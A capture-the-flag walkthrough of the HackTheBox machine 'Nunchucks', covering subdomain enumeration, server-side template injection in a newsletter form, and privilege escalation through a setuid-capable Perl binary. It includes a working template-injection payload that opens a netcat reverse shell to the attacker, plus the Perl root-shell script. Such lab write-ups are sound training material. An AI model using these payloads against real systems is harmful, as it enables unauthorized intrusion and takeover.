Name: Nunchucks
Release Date: 28 Oct 2021
Retire Date: 02 Nov 2021
OS: Linux
Base Points: Easy - Retired [0]
Rated Difficulty:
Radar Graph:
HTB-Bot 00 days, 02 hours, 00 mins, 00 seconds
HTB-Bot 00 days, 02 hours, 00 mins, 00 seconds
Creator: TheCyberGeek
Pentest Workshop PDF: Nunchucks.pdf

Again, we start with sudo /home/kali/AutoRecon/src/autorecon/

Sidenote: Newer versions of Kali that do not use root by default require sudo whenever checking UDP ports.

We have ports SSH TCP 22, HTTP TCP 80, and HTTPS TCP 443 to deal with.  Navigating to is "Unable to Connect".  Navigating to pulls up a sales page. Looking at the autorecon output for TCP 80, we see that there's a statement "Did not follow the redirect tohttp://nunchucks.htb.  This means we need to add it to /etc/hosts using:


vi /etc/hosts nunchucks.htb


Notice, the domain name redirects to HTTPS and shows us the exact same page.  Fire up GoBuster and check a look at results:


gobuster vhost -u https://nunchucks.htb -k -w /usr/share/seclists/Discovery/Web-Content/directory-list-2.3-medium.txt -t50 -o nunchucks.out

└─$ gobuster vhost -u https://nunchucks.htb -k -w /usr/share/seclists/Discovery/Web-Content/directory-list-2.3-medium.txt -t50 -o nunchucks.out
Gobuster v3.1.0
by OJ Reeves (@TheColonial) & Christian Mehlmauer (@firefart)
[+] Url:          https://nunchucks.htb
[+] Method:       GET
[+] Threads:      50
[+] Wordlist:     /usr/share/seclists/Discovery/Web-Content/directory-list-2.3-medium.txt[+] User Agent:   gobuster/3.1.0
[+] Timeout:      10s
2022/01/22 02:36:56 Starting gobuster in VHOST enumeration mode
Found: store.nunchucks.htb (Status: 200) [Size: 4029]
Found: Store.nunchucks.htb (Status: 200) [Size: 4029]
2022/01/22 03:21:09 Finished

Notice that we used "vhost" instead of "dir" in the Gobuster command. Dir will find directories, vhost finds sub-domains. We found the "store".nunchucks.htb sub-domain. We will need to add the sub-domain to our /etc/hosts file the same way we did above for nunchucks.htb.

There's no store yet, but a method to sign up for a newsletter. Depending on input validation on this site (and a myriad of other things), we can try different Web App Attack methods. One of those methods is an Server-Side Template Injection (SSTI) attack. To check for this type of attack, we need to input something that uses 7 * 7 = 49 in it. For more SSTI detection methods, check out HackTricks here. Our email address to enter should be {{7*7}}@nunchicks.htb and then capture the response in Burpsuite to confirm the SSTI. In this particular case, we don't "need" to use Burpsuite because the response shows the email address on the page itself to be 49@nunchucks.htb, but it's good practice to use Burp in case the address doesn't show on the response page.Since we did get the "49" response, we have confirmed that the site is vulnerable to SSTI attacks. As simple Google search for Nunchucks Template Injection provides us with a "payload" to escape the sandboxing by using "range.constructor". With that, we can build an injection to make a reverse shell to out netcat listener:


On Attacking Machine:

nc -lvnp 1337


Send the POST to /api/submit to Repeater:

{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc <YOUR TUN0 IP> 1337 >/tmp/f')\")()}}

We have a foothold as david. We can upgrade our shell to TTY using:


python3 -c 'import pty; pty.spawn("/bin/bash")'


Grab the user.txt flag and begin our privesc enumeration (LinPEAS and/or LinEnum).


david@nunchucks:~$ cat user.txtcat user.txt


LinEnum shows POSIX/SETUID capabilities on /usr/bin/perl. This is another GTFOBins box. I love GTFOBins. They are so fun to play with.

All we need to do is create a simple Perl script that bypasses AppArmor (annoying thing that it is) and we should have a shell as root.



use POSIX qw(setuid);


exec "/bin/bash";


I like to create the script on my Attacking box and wget'ting it to the Victim machine. Vim tends to work very weird on reverse shells.

root@nunchucks:~# cat/root/root.txt
cat /root/root.txt


With that, we are root! Grab the flag andwe've completed another box! Congrats!